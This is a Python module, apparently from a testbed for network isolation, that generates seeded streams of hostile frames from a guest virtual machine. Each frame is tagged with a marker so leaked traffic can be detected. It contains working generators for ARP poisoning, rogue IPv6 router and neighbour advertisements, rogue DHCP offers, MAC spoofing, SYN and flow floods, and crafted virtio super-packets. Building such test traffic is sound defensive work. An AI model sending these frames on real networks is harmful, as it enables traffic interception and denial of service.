# SPDX-License-Identifier: Apache-2.0
"""The frames of a hostile virtual machine: one endless sequence for each kind of attack.

All are built from the addresses of those who take part and a seeded generator of random numbers:
the same seed gives the same frames. Each carries MARKER and its kind, so that it is recognised
where it should not have come.
"""

import functools
import ipaddress
import itertools
import random
import struct
from dataclasses import dataclass

from testbed.programs.frames import ETHERNET_BYTES, IPV4_BYTES, UDP_BYTES, ipv4_header

MARKER = b"sluice-attack:"
FULL_FRAME_BYTES = 1514
IPV6_BYTES, TCP_BYTES = 40, 20
PADDED_ETHERNET_BYTES = 60
IPV4, IPV6, ARP = 0x0800, 0x86DD, 0x0806
LLDP, BDDP, EXPERIMENTAL = 0x88CC, 0x8942, 0x88B5  # IEEE 802.1AB; ONOS's own; IEEE 802
VLAN_9100, MPLS, PPPOE = 0x9100, 0x8847, 0x8864
PPP_IPV4 = 0x0021
TCP, UDP, ICMPV6 = 6, 17, 58
SYN, ACK = 0x02, 0x10
NEEDS_CHECKSUM, GSO_TCPV4, GSO_UDP_L4 = 1, 1, 5  # of struct virtio_net_hdr (linux/virtio_net.h)
TINY_SEGMENT_BYTES = 2
ARP_REQUEST, ARP_REPLY = 1, 2
ROUTER_ADVERTISEMENT, NEIGHBOUR_SOLICITATION, NEIGHBOUR_ADVERTISEMENT = 134, 135, 136
SOURCE_LINK_LAYER, TARGET_LINK_LAYER, PREFIX_INFORMATION = 1, 2, 3
EXPERIMENTAL_OPTION = 253  # RFC 4727
ND_HOP_LIMIT = 255
BROADCAST = b"\xff" * 6
UNKNOWN_MAC = b"\0" * 6
UDP_PORT = 7999
CLOSED_TCP_PORT = 6999
DHCP_SERVER, DHCP_CLIENT = 67, 68
DHCP_COOKIE = b"\x63\x82\x53\x63"
# Unassigned: packets to it have no path, and each address is another pair.
UNKNOWN_NETWORK = ipaddress.ip_network("10.128.0.0/9")
SWEPT_NETWORK = ipaddress.ip_network("10.0.0.0/16")
EVERYBODY = "255.255.255.255"
GROUP_ADDRESS = "239.86.1.2"
LLDP_GROUPS = (bytes.fromhex("0180c200000e"), bytes.fromhex("a52305000001"))


@dataclass(frozen=True)
class Party:
    """A machine: its Ethernet address and its IP addresses, as text."""

    mac: str
    ip: str
    ip6: str

    @property
    def ethernet(self):
        """The Ethernet address in bytes."""
        return bytes.fromhex(self.mac.replace(":", ""))

    @staticmethod
    def parse(text):
        """A party as the command line has it: MAC,IP,IP6."""
        return Party(*text.split(","))

    def __str__(self):
        return f"{self.mac},{self.ip},{self.ip6}"


@dataclass(frozen=True)
class Scene:
    """Who takes part: the attacker, who receives what it sends, and a victim on its host.

    claimed: an address that the attacker takes, as text. segments: how many full datagrams the
    attacker, a guest on a tap, sends as one super-packet; 0: it sends each by itself.
    """

    attacker: Party
    receiver: Party
    victim: Party
    claimed: str = ""
    segments: int = 0


def frames(kind, scene, seed):
    """An endless sequence of frames of a kind."""
    return KINDS[kind](scene, random.Random(f"{kind}/{seed}"))


def kind_of(frame):
    """The kind that a frame was made as; None for frames of others."""
    begin = frame.find(MARKER)
    if begin < 0:
        return None
    text = frame[begin + len(MARKER) :].split(b"\0")[0]
    return text.decode("ascii", "replace")


def _mark(kind):
    return MARKER + kind.encode() + b"\0"


def _payload(kind, headers_bytes):
    """A payload that makes a full frame."""
    return _mark(kind).ljust(FULL_FRAME_BYTES - headers_bytes, b"\0")


def _ethernet(destination, source, ethertype, payload):
    frame = destination + source + struct.pack("!H", ethertype) + payload
    return frame.ljust(PADDED_ETHERNET_BYTES, b"\0")


def checksum(data):
    """The internet checksum (RFC 1071)."""
    # The remainder of a number of 16-bit digits is that of their sum, whose carries are added, too.
    whole = int.from_bytes(data + b"\0" * (len(data) % 2), "big")
    return 0xFFFF - (whole % 0xFFFF or 0xFFFF)


@functools.lru_cache
def _packed(address):
    return ipaddress.ip_address(address).packed


def _pseudo_header(source, destination, protocol, length):
    addresses = _packed(source) + _packed(destination)
    if len(addresses) == 8:
        return addresses + struct.pack("!BBH", 0, protocol, length)
    return addresses + struct.pack("!IHBB", length, 0, 0, protocol)


def _udp(source, destination, ports, payload):
    """A UDP datagram with its checksum."""
    length = UDP_BYTES + len(payload)
    blank = struct.pack("!HHHH", *ports, length, 0) + payload
    summed = checksum(_pseudo_header(source, destination, UDP, length) + blank) or 0xFFFF
    return blank[:6] + struct.pack("!H", summed) + payload


def _ipv4(macs, source, destination, protocol, payload):
    header = ipv4_header(source, destination, protocol, len(payload))
    return _ethernet(*macs, IPV4, header + payload)


def _ipv6(macs, source, destination, protocol, payload, hop_limit=64):
    header = struct.pack("!IHBB", 6 << 28, len(payload), protocol, hop_limit)
    return _ethernet(*macs, IPV6, header + _packed(source) + _packed(destination) + payload)


def _udp4(macs, source, destination, ports, payload):
    return _ipv4(macs, source, destination, UDP, _udp(source, destination, ports, payload))


def _icmp6(macs, source, destination, message):
    """An ICMPv6 message (type, code, two bytes of zeros, body) with its checksum."""
    pseudo = _pseudo_header(source, destination, ICMPV6, len(message))
    whole = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    return _ipv6(macs, source, destination, ICMPV6, whole, ND_HOP_LIMIT)


def _nd_option(kind, body):
    """An option of neighbour discovery, in units of 8 bytes."""
    body += b"\0" * (-(len(body) + 2) % 8)
    return struct.pack("!BB", kind, (len(body) + 2) // 8) + body


def _nd_mark(kind):
    return _nd_option(EXPERIMENTAL_OPTION, _mark(kind))


def _multicast_mac(address):
    """The Ethernet address of a group of IPv4 (RFC 1112) or IPv6 (RFC 2464)."""
    packed = _packed(address)
    if len(packed) == 4:
        return bytes((0x01, 0x00, 0x5E, packed[1] & 0x7F, packed[2], packed[3]))
    return b"\x33\x33" + packed[-4:]


def _macs(scene):
    """(destination, source) of an ordinary frame to the receiver."""
    return scene.receiver.ethernet, scene.attacker.ethernet


def _random_link_local(numbers):
    return str(ipaddress.IPv6Address((0xFE80 << 112) | numbers.getrandbits(64)))


def _virtio_header(gso, begin, header_bytes, segment_bytes, checksum_offset):
    """A struct virtio_net_hdr of a super-packet: the kernel counts its segments from it.

    The checksum in its transport header, which begins there, is the pseudo header's: the kernel
    makes those of the segments.
    """
    return struct.pack(
        "=BBHHHH",
        *(NEEDS_CHECKSUM, gso, begin + header_bytes, segment_bytes, begin, checksum_offset),
    )


def _full_datagrams(kind, scene, macs, source, destination, ports=(UDP_PORT, UDP_PORT)):
    """A full frame of a datagram; of a guest on a tap, a super-packet of so many such frames."""
    ip_bytes, packed = (IPV6_BYTES, _ipv6) if ":" in source else (IPV4_BYTES, _ipv4)
    begin = ETHERNET_BYTES + ip_bytes
    payload = _payload(kind, begin + UDP_BYTES)
    if not scene.segments:
        datagram = _udp(source, destination, ports, payload)
        return packed(macs, source, destination, UDP, datagram)
    length = UDP_BYTES + scene.segments * len(payload)
    partial = ~checksum(_pseudo_header(source, destination, UDP, length)) & 0xFFFF
    datagram = struct.pack("!HHHH", *ports, length, partial) + scene.segments * payload
    header = _virtio_header(GSO_UDP_L4, begin, UDP_BYTES, len(payload), checksum_offset=6)
    return header + packed(macs, source, destination, UDP, datagram)


def _group_mac(scene, numbers):
    """Unicast IP in frames with a group address of Ethernet."""
    macs = _multicast_mac(scene.receiver.ip), scene.attacker.ethernet
    addresses = scene.attacker.ip, scene.receiver.ip
    return itertools.repeat(_full_datagrams("group-mac", scene, macs, *addresses))


def _super_packets(scene, numbers):
    """Super-packets of TCP in frames with a group address of Ethernet.

    Their segments are tiny: each has all headers again on the wire.
    """
    macs = _multicast_mac(scene.receiver.ip), scene.attacker.ethernet
    payload = _payload("super-packets", ETHERNET_BYTES + IPV4_BYTES + TCP_BYTES)
    length = TCP_BYTES + len(payload)
    pseudo = _pseudo_header(scene.attacker.ip, scene.receiver.ip, TCP, length)
    summed = ~checksum(pseudo) & 0xFFFF
    ports = (UDP_PORT, UDP_PORT)
    tcp = struct.pack("!HHIIBBHHH", *ports, 0, 0, TCP_BYTES // 4 << 4, ACK, 0, summed, 0)
    frame = _ipv4(macs, scene.attacker.ip, scene.receiver.ip, TCP, tcp + payload)
    begin = ETHERNET_BYTES + IPV4_BYTES
    header = _virtio_header(GSO_TCPV4, begin, TCP_BYTES, TINY_SEGMENT_BYTES, checksum_offset=16)
    return itertools.repeat(header + frame)


def _unspecified_source(scene, numbers):
    """Datagrams with the source 0.0.0.0."""
    addresses = "0.0.0.0", scene.receiver.ip
    return itertools.repeat(_full_datagrams("unspecified-source", scene, _macs(scene), *addresses))


def _link_local_source(scene, numbers):
    """Datagrams with one invented link-local source."""
    addresses = _random_link_local(numbers), scene.receiver.ip6
    return itertools.repeat(_full_datagrams("link-local-source", scene, _macs(scene), *addresses))


def _non_ip(scene, numbers):
    """Frames of a protocol without counters."""
    payload = _payload("non-ip", ETHERNET_BYTES)
    return itertools.repeat(_ethernet(*_macs(scene), EXPERIMENTAL, payload))


def _multicast(scene, numbers):
    """Datagrams to a group."""
    macs = _multicast_mac(GROUP_ADDRESS), scene.attacker.ethernet
    addresses = scene.attacker.ip, GROUP_ADDRESS
    return itertools.repeat(_full_datagrams("multicast", scene, macs, *addresses))


def _broadcast(scene, numbers):
    """Datagrams to everybody."""
    macs = BROADCAST, scene.attacker.ethernet
    addresses = scene.attacker.ip, EVERYBODY
    return itertools.repeat(_full_datagrams("broadcast", scene, macs, *addresses))


def _encapsulated(scene, numbers):
    """Datagrams behind a second kind of VLAN tag, in MPLS, and in PPPoE."""
    macs = _macs(scene)
    found = []
    for ethertype, head_bytes in ((VLAN_9100, 4), (MPLS, 4), (PPPOE, 8)):
        payload = _payload("encapsulated", ETHERNET_BYTES + head_bytes + IPV4_BYTES + UDP_BYTES)
        ports = (UDP_PORT, UDP_PORT)
        packet = _udp4(macs, scene.attacker.ip, scene.receiver.ip, ports, payload)[ETHERNET_BYTES:]
        head = {
            VLAN_9100: struct.pack("!HH", 1, IPV4),
            MPLS: struct.pack("!I", 16 << 12 | 1 << 8 | 64),  # the last label of the stack
            PPPOE: struct.pack("!BBHHH", 0x11, 0, 1, len(packet) + 2, PPP_IPV4),
        }[ethertype]
        found.append(_ethernet(*macs, ethertype, head + packet))
    return itertools.cycle(found)


def _pairs(scene, numbers):
    """Small datagrams, each to another unassigned address."""
    payload = _mark("pairs")
    while True:
        target = str(UNKNOWN_NETWORK[numbers.randrange(1, UNKNOWN_NETWORK.num_addresses - 1)])
        yield _udp4(_macs(scene), scene.attacker.ip, target, (UDP_PORT, UDP_PORT), payload)


def _connections(scene, numbers):
    """Handshakes, each of another connection, to a closed port."""
    source, destination = scene.attacker.ip, scene.receiver.ip
    mark = _mark("connections")
    for port in itertools.cycle(range(1024, 65536)):
        sequence = numbers.getrandbits(32)
        words = (port, CLOSED_TCP_PORT, sequence, 0, TCP_BYTES // 4 << 4, SYN, 65535)
        blank = struct.pack("!HHIIBBHHH", *words, 0, 0) + mark
        summed = checksum(_pseudo_header(source, destination, TCP, len(blank)) + blank)
        segment = blank[:16] + struct.pack("!H", summed) + blank[18:]
        yield _ipv4(_macs(scene), source, destination, TCP, segment)


def _flows(scene, numbers):
    """Small datagrams, each of another flow."""
    payload = _mark("flows")
    while True:
        ports = (numbers.randrange(1024, 65536), numbers.randrange(1024, 65536))
        yield _udp4(_macs(scene), scene.attacker.ip, scene.receiver.ip, ports, payload)


def _rotating_ports(scene, numbers):
    """Full frames, each of another flow: every one looks like the beginning of a sparse one.

    Those of one super-packet are of one flow.
    """
    addresses = scene.attacker.ip, scene.receiver.ip
    while True:
        ports = (numbers.randrange(1024, 65536), numbers.randrange(1024, 65536))
        yield _full_datagrams("rotating-ports", scene, _macs(scene), *addresses, ports)


def _spoofed_mac(scene, numbers):
    """The attacker's own addresses of IP in frames from the victim's address of Ethernet."""
    macs = scene.receiver.ethernet, scene.victim.ethernet
    ports = (UDP_PORT, UDP_PORT)
    own = (scene.attacker.ip, scene.receiver.ip)
    return itertools.repeat(_udp4(macs, *own, ports, _mark("spoofed-mac")))


def _arp(macs, operation, sender, target, mark):
    """macs: of the frame; sender, target: (Ethernet address, IPv4 address as text)."""
    body = struct.pack("!HHBBH", 1, IPV4, 6, 4, operation)
    for ethernet, ip in (sender, target):
        body += ethernet + _packed(ip)
    return _ethernet(*macs, ARP, body + mark)


def _arp_poison(scene, numbers):
    """Replies that give the receiver's address to the attacker, and the attacker's to the victim.

    The first has another's protocol address, the second another's hardware address.
    """
    macs = BROADCAST, scene.attacker.ethernet
    mark = _mark("arp-poison")
    nobody = (BROADCAST, scene.receiver.ip)
    takes = (scene.attacker.ethernet, scene.receiver.ip)
    gives = (scene.victim.ethernet, scene.attacker.ip)
    return itertools.cycle([_arp(macs, ARP_REPLY, own, nobody, mark) for own in (takes, gives)])


def _arp_sweep(scene, numbers):
    """Requests for one address after the other."""
    macs = BROADCAST, scene.attacker.ethernet
    own = (scene.attacker.ethernet, scene.attacker.ip)
    first = SWEPT_NETWORK.num_addresses // 256  # behind the machines' own network
    for number in itertools.cycle(range(first, SWEPT_NETWORK.num_addresses - 1)):
        wanted = (UNKNOWN_MAC, str(SWEPT_NETWORK[number]))
        yield _arp(macs, ARP_REQUEST, own, wanted, _mark("arp-sweep"))


def _router_advertisements(scene, numbers):
    """Advertisements of a default router and a prefix."""
    group = "ff02::1"
    macs = _multicast_mac(group), scene.attacker.ethernet
    life_seconds = 1800
    prefix = struct.pack("!BBIII", 64, 0xC0, life_seconds, life_seconds, 0) + _packed("fd00:bad::")
    message = (
        struct.pack("!BBHBBHII", ROUTER_ADVERTISEMENT, 0, 0, 64, 0, life_seconds, 0, 0)
        + _nd_option(SOURCE_LINK_LAYER, scene.attacker.ethernet)
        + _nd_option(PREFIX_INFORMATION, prefix)
        + _nd_mark("router-advertisements")
    )
    return itertools.repeat(_icmp6(macs, _eui64(scene.attacker), group, message))


def _eui64(party):
    """The link-local address that follows from an Ethernet address (RFC 4291)."""
    mac = party.ethernet
    interface = bytes((mac[0] ^ 2, *mac[1:3], 0xFF, 0xFE, *mac[3:]))
    return str(ipaddress.IPv6Address(_packed("fe80::")[:8] + interface))


def _neighbour_advertisements(scene, numbers):
    """Unsolicited advertisements of the receiver's address, overriding what is known."""
    group = "ff02::1"
    macs = _multicast_mac(group), scene.attacker.ethernet
    override = 0x20000000
    message = (
        struct.pack("!BBHI", NEIGHBOUR_ADVERTISEMENT, 0, 0, override)
        + _packed(scene.receiver.ip6)
        + _nd_option(TARGET_LINK_LAYER, scene.attacker.ethernet)
        + _nd_mark("neighbour-advertisements")
    )
    return itertools.repeat(_icmp6(macs, _eui64(scene.attacker), group, message))


def _link_local_sources(scene, numbers):
    """Solicitations for the receiver's address, each from another invented link-local one."""
    target = _packed(scene.receiver.ip6)
    group = str(ipaddress.IPv6Address(_packed("ff02::1:ff00:0")[:13] + target[-3:]))
    macs = _multicast_mac(group), scene.attacker.ethernet
    message = (
        struct.pack("!BBHI", NEIGHBOUR_SOLICITATION, 0, 0, 0)
        + target
        + _nd_option(SOURCE_LINK_LAYER, scene.attacker.ethernet)
        + _nd_mark("link-local-sources")
    )
    while True:
        yield _icmp6(macs, _random_link_local(numbers), group, message)


def _dhcp_replies(scene, numbers):
    """Offers of a DHCP server that is none: the attacker as router and name server."""
    own = _packed(scene.attacker.ip)
    options = (
        b"\x35\x01\x02"  # offer
        + (b"\x36\x04" + own)  # server
        + (b"\x03\x04" + own)  # router
        + (b"\x06\x04" + own)  # name server
        + b"\xff"
    )
    mark = _mark("dhcp-replies")
    while True:
        head = struct.pack("!BBBBIHH", 2, 1, 6, 0, numbers.getrandbits(32), 0, 0x8000)
        addresses = bytes(4) + _packed(scene.victim.ip) + own + bytes(4)
        hardware = scene.victim.ethernet.ljust(16, b"\0")
        message = head + addresses + hardware + mark.ljust(192, b"\0") + DHCP_COOKIE + options
        macs = BROADCAST, scene.attacker.ethernet
        ports = (DHCP_SERVER, DHCP_CLIENT)
        yield _udp4(macs, scene.attacker.ip, EVERYBODY, ports, message)


def _discovery(scene, numbers):
    """LLDP and BDDP as a switch sends them, to their groups and to everybody."""
    chassis, port, life = b"\x04" + scene.victim.ethernet, b"\x071", struct.pack("!H", 120)
    own = b"\x00\x26\xe1\x00"  # organisation and subtype of what only carries the mark
    tlvs = ((1, chassis), (2, port), (3, life), (127, own + _mark("discovery")), (0, b""))
    data = b"".join(struct.pack("!H", kind << 9 | len(body)) + body for kind, body in tlvs)
    source = scene.attacker.ethernet
    found = [_ethernet(group, source, LLDP, data) for group in LLDP_GROUPS]
    return itertools.cycle([*found, _ethernet(BROADCAST, source, BDDP, data)])


def _claimed_address(scene, numbers):
    """Full frames from an address that the attacker takes; every hundredth announces it."""
    ports = (UDP_PORT, UDP_PORT)
    mark = _mark("claimed-address")
    payload = _payload("claimed-address", ETHERNET_BYTES + IPV4_BYTES + UDP_BYTES)
    own = (scene.attacker.ethernet, scene.claimed)
    announcement = _arp((BROADCAST, scene.attacker.ethernet), ARP_REQUEST, own, own, mark)
    data = _udp4(_macs(scene), scene.claimed, scene.receiver.ip, ports, payload)
    return itertools.cycle([announcement, *[data] * 99])


# Those of full datagrams, of which a guest on a tap sends several at once.
SEGMENTED = (
    *("group-mac", "unspecified-source", "link-local-source", "multicast", "broadcast"),
    "rotating-ports",
)


def have_virtio_header(kind, segments):
    """Whether the frames of a kind begin with one (struct virtio_net_hdr)."""
    return kind == "super-packets" or (segments > 0 and kind in SEGMENTED)


KINDS = {
    "group-mac": _group_mac,
    "super-packets": _super_packets,
    "unspecified-source": _unspecified_source,
    "link-local-source": _link_local_source,
    "non-ip": _non_ip,
    "multicast": _multicast,
    "broadcast": _broadcast,
    "encapsulated": _encapsulated,
    "pairs": _pairs,
    "connections": _connections,
    "flows": _flows,
    "rotating-ports": _rotating_ports,
    "spoofed-mac": _spoofed_mac,
    "arp-poison": _arp_poison,
    "router-advertisements": _router_advertisements,
    "neighbour-advertisements": _neighbour_advertisements,
    "dhcp-replies": _dhcp_replies,
    "discovery": _discovery,
    "arp-sweep": _arp_sweep,
    "link-local-sources": _link_local_sources,
    "claimed-address": _claimed_address,
}
